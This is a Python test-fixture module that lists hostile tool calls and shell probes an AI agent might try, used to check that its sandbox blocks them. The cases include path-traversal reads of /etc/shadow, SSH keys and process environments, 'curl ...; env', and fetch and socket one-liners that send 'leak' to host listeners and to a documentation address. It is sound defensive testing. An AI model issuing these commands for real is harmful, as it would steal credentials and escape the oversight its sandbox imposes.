"""Hostile agent transcripts: what a model driving an agent could ask its tools for, one case per slot.

A case is the tool calls the model makes, one step each, before it says it is done; `{tcp}` and `{gateway}` are
filled as in corpus.py (a host TCP listener that must receive nothing, the sandbox network's gateway). Each result
the agent's tools give must be a refusal or harmless (`refused`: every result of the case is an error), and nothing
of the runner's environment, the host's files or the run dir may come back (tests/sandbox/test_hostile_agent.py).
The built-in agent's cases are `BUILTIN_CASES`.

The official CLIs' (runner/agents/clis/) are `CLI_PROBES`: shell commands the model has a CLI run with its own shell
tool in its container (each a few labelled parts). Each output goes back to the model in the next request, so it
lands in the slot's evidence (agent_calls.jsonl, agent_steps.jsonl, the CLI's process.log): whatever a command
could read there would leak. tests/agents/clis/test_clis_in_image.py checks that the runner's secret (an API key in
its environment) and a host file's secret appear nowhere in the run's files or its MLflow store, that the host's
TCP and UDP listeners receive nothing, that each probe's output shows it ran (`shows`: proof the command got an
answer, so "nothing leaked" is no empty claim) and shows no way out (`never`). Their placeholders, filled when the
model is asked: `{secret_file}` (a host file holding the host secret) and `{secret_dir}` (its folder), `{gateway}`
(Docker's default bridge gateway, a host address), `{primary}` (the host's primary address), `{tcp}` and `{udp}`
(the listeners' ports); 203.0.113.7 is a documentation address (RFC 5737).
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class AgentCase:
    id: str
    calls: tuple[tuple[str, dict[str, Any]], ...]  # (tool, arguments), one step each
    refused: bool = True  # every call's result is an error (else: harmless, checked by what must not show)
    note: str = ""

    def arguments(self, index: int, *, tcp: int, gateway: str) -> str:
        text = json.dumps(self.calls[index][1])
        return text.replace("{tcp}", str(tcp)).replace("{gateway}", gateway)


_FETCHES = ("fetch('http://127.0.0.1:{tcp}/agent-page').catch(() => {});"
            "fetch('http://{gateway}:{tcp}/agent-gateway').catch(() => {});"
            "fetch('http://203.0.113.7/agent-out').catch(() => {});")

BUILTIN_CASES: tuple[AgentCase, ...] = (
    # --- the runner's environment (its API key) ----------------------------------------------------------
    AgentCase("env-proc", (("read_file", {"path": "/proc/self/environ"}),
                           ("read_file", {"path": "../../../../../../proc/self/environ"}),
                           ("read_file", {"path": "/proc/1/environ"}),
                           ("list_files", {"path": "/proc/self"}))),
    # --- the host's files and the run dir -----------------------------------------------------------------
    AgentCase("host-files", (("read_file", {"path": "/etc/passwd"}),
                             ("read_file", {"path": "../../../../../../../etc/passwd"}),
                             ("read_file", {"path": "src/../../../../../../etc/shadow"}),
                             ("list_files", {"path": "/"}),
                             ("list_files", {"path": ".."}),
                             ("read_file", {"path": "~/.ssh/id_rsa"}))),
    AgentCase("run-dir", (("read_file", {"path": "../turns.jsonl"}),
                          ("read_file", {"path": "../../../turns.jsonl"}),
                          ("read_file", {"path": "../packet.json"}),
                          ("read_file", {"path": "../../../config.yaml"}),
                          ("list_files", {"path": "../.."}))),
    AgentCase("template-install", (("read_file", {"path": "node_modules/react/package.json"}),
                                   ("list_files", {"path": "node_modules"}),
                                   ("write_file", {"path": "node_modules/react/index.js", "content": "x"})),
              note="the template's shared install is no part of the workspace: read or written, it is refused"),
    # --- writing outside the workspace ------------------------------------------------------------------------
    AgentCase("write-outside", (("write_file", {"path": "../../../genui-agent-escape.txt", "content": "escaped"}),
                                ("write_file", {"path": "/tmp/genui-agent-escape.txt", "content": "escaped"}),
                                ("delete_file", {"path": "../../../turns.jsonl"}),
                                ("write_file", {"path": "src/\u0000.js", "content": "x"}))),
    # --- the network: no tool reaches it, and the page the agent looks at is confined like any artifact -------
    AgentCase("network-tools", (("fetch", {"url": "http://127.0.0.1:{tcp}/agent-tool"}),
                                ("http_get", {"url": "http://203.0.113.7/"}),
                                ("run_shell", {"command": "curl http://127.0.0.1:{tcp}/ ; env"}))),
    AgentCase("network-page", (("write_file", {"path": "src/App.jsx", "content": (
        "import { useEffect } from 'react';\n"
        "export default function App() {\n"
        f"  useEffect(() => {{ {_FETCHES} }}, []);\n"
        "  return <main>ready</main>;\n}\n")}),
        ("view_page", {})), refused=False,
        note="the page is built and served as every artifact: its requests to the host and beyond are blocked"),
)


# --- the official CLIs: shell commands run by the CLI's own shell tool in its container -----------------------

@dataclass(frozen=True)
class AgentProbe:
    id: str
    command: str
    shows: tuple[str, ...]  # each must be in the command's output: it ran, and this is what it got
    why: str = ""
    # None may be in its output: what a way out would print (spelt apart in the command, since a CLI may echo it).
    never: tuple[str, ...] = ()

    def filled(self, **values: str) -> str:
        return _fill(self.command, values)

    def expected(self, **values: str) -> list[str]:
        return [_fill(shown, values) for shown in self.shows]


def _fill(text: str, values: dict[str, str]) -> str:
    for name, value in values.items():
        text = text.replace("{" + name + "}", value)
    return text


_NODE_FETCH = ("node -e \"fetch(process.argv[1], {signal: AbortSignal.timeout(5000)}).then("
               "r => console.log('REACH' + 'ED', r.status), e => console.log('FETCH FAILED', e.cause?.code || e.name))\" ")
_PY_TCP = ("python3 -c \"import socket,sys\ntry:\n socket.create_connection((sys.argv[1], int(sys.argv[2])), 3)"
           ".sendall(b'leak'); print('TCP', 'CONNECTED')\nexcept OSError as e: print('CONNECT FAILED', e.errno)\" ")
_PY_UDP = ("python3 -c \"import socket,sys\ntry:\n socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', "
           "(sys.argv[1], int(sys.argv[2]))); print('UDP', 'SENT')\nexcept OSError as e: print('SEND FAILED', e.errno)\" ")

def _labelled(*parts: tuple[str, str]) -> str:
    """One shell command running each (label, command) in turn, each output under its label."""
    return "; ".join(f"echo '## {label}'; {command}" for label, command in parts)


CLI_PROBES = [
    AgentProbe("environment", _labelled(
        ("env", "env | sort"),
        ("pid 1", "tr '\\0' '\\n' < /proc/1/environ; echo; tr '\\0' ' ' < /proc/1/cmdline"),
        ("every process", "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>&1 | sort -u"),
        ("processes", "ps -eo pid,user,args 2>/dev/null || ls /proc")),
        ("HOME=/home/agent", "docker-init"),
        "the CLI's own few variables, never the runner's; pid 1 is the container's init; only the container's "
        "processes exist"),
    AgentProbe("host-files", _labelled(
        ("host secret", "cat {secret_file}; ls -la {secret_dir}"),
        ("shadow", "cat /etc/shadow; id"),
        ("host homes", "ls -la /root /home /mnt 2>&1; ls -la /var/run/docker.sock 2>&1")),
        ("{secret_file}: No such file or directory", "cat: /etc/shadow: Permission denied", "uid=10001",
         "cannot access '/var/run/docker.sock'"),
        "no host folder is mounted but the workspace and the CLI's home; the image's own shadow file is unreadable "
        "to the unprivileged user the CLI runs as; no Docker socket"),
    AgentProbe("network", _labelled(
        ("name", "getent hosts example.com || echo RESOLVE FAILED"),
        ("http", _NODE_FETCH + "http://example.com/"),
        ("documentation address", _NODE_FETCH + "http://203.0.113.7/"),
        ("host gateway tcp", _PY_TCP + "{gateway} {tcp}"),
        ("host primary tcp", _PY_TCP + "{primary} {tcp}"),
        ("loopback tcp", _PY_TCP + "127.0.0.1 {tcp}"),
        ("host gateway udp", _PY_UDP + "{gateway} {udp}"),
        ("interfaces", "cat /proc/net/dev")),
        ("RESOLVE FAILED", "FETCH FAILED", "CONNECT FAILED", "SEND FAILED", "lo:"),
        "no name service, no route out, the host's services unreachable at any of its addresses (the container's "
        "loopback is its own); a loopback and no other interface", never=("REACHED", "TCP CONNECTED", "UDP SENT")),
]
